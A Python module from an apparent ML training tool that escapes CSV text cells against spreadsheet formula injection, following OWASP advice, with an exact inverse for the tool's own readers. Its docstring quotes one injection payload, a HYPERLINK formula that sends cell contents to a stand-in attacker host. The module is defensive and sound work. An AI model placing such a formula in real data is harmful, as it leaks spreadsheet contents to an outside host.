"""Text cells of the CSV files trainwise writes, made inert for spreadsheets (audit s16 S12).

Class names and identifiers come from the data, or from a received run folder's meta.json:
a class named `=HYPERLINK("http://evil.example/?"&A1,"ok")` landed as a live formula in every
`prediction` cell of predictions.csv. OWASP's advice for CSV injection: a text cell starting
with = + - @ a tab or a carriage return gets a leading single quote, which spreadsheets show
as text and hide. Numbers are left as they are, text that reads as one too ('-0.5', '-3',
a class named -1): a spreadsheet takes those as numbers, never formulas, and a join on them
must still match; so is a lone sign ('+', '-'). trainwise's own readers undo the quote
(`unquoted`, safe_cell's exact inverse).
"""

from __future__ import annotations

from typing import Any

import pandas as pd
from pandas.api import types

from trainwise.config_values import reads_as_number

FORMULA_STARTS = ("=", "+", "-", "@", "\t", "\r")
QUOTE = "'"


def _formula(text: str) -> bool:
    # a lone sign or @ has no payload: '+' and '-' are common labels (sentiment, DNA strand),
    # and quoting them broke a join of predictions.csv on the truth (review s16 VS7)
    return len(text) > 1 and text.startswith(FORMULA_STARTS) and not reads_as_number(text)


def _escaped(text: str) -> bool:
    """`text` is (or would read as) safe_cell's quote on a formula: a class literally named
    "'=x" is quoted too, so that unquoted gives back exactly what safe_cell was given."""
    return text.startswith(QUOTE) and (_formula(text[1:]) or _escaped(text[1:]))


def safe_cell(value: Any) -> Any:
    """`value` with a leading quote when it is text a spreadsheet would run as a formula."""
    if isinstance(value, str) and (_formula(value) or _escaped(value)):
        return QUOTE + value
    return value


def unquoted(value: Any) -> Any:
    """`safe_cell` undone, exactly: what a reader of trainwise's own CSV files compares
    (pandas: `df["prediction"].map(unquoted)`)."""
    return value[1:] if isinstance(value, str) and _escaped(value) else value


def safe_frame(frame: pd.DataFrame) -> pd.DataFrame:
    """A copy with every header and every text (object) column's cells through safe_cell;
    number columns untouched."""
    frame = frame.rename(columns=safe_cell)
    for at in range(frame.shape[1]):  # by position: two columns may share a name
        column = frame.iloc[:, at]
        if not (types.is_numeric_dtype(column) or types.is_datetime64_any_dtype(column)):
            frame.isetitem(at, column.map(safe_cell))
    return frame
